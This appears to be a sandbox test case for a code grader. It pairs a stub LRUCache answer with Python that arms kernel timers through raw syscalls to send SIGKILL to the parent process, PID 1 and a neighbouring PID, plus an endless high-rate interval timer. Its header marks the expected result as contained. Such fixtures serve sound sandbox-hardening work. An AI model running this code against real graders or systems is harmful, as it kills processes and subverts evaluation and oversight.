# ATTACK timer_signals_a_thread
# CLASS: process
# TRIES: arms kernel timers that signal thread ids below its own, and interval timers without end.
# SAFE GRADER MUST: let timers reach threads of their own process only.
# HONEST-RESULT: contained
# AT-MOST: 0
import ctypes
import os
import signal
import struct

libc = ctypes.CDLL(None, use_errno=True)
for target in (os.getppid(), 1, os.getpid() - 1):
    event = struct.pack("=Qiii44x", 0, 9, 4, target)
    timer = ctypes.c_int()
    if libc.syscall(222, 1, event, ctypes.byref(timer)) == 0:
        libc.syscall(223, timer, 0, struct.pack("=qqqq", 0, 0, 0, 1000), None)
signal.signal(signal.SIGALRM, lambda *_: None)
signal.setitimer(signal.ITIMER_REAL, 0.0001, 0.0001)
class LRUCache:
    def __init__(self, capacity):
        pass

    def get(self, key):
        return 0

    def put(self, key, value):
        pass
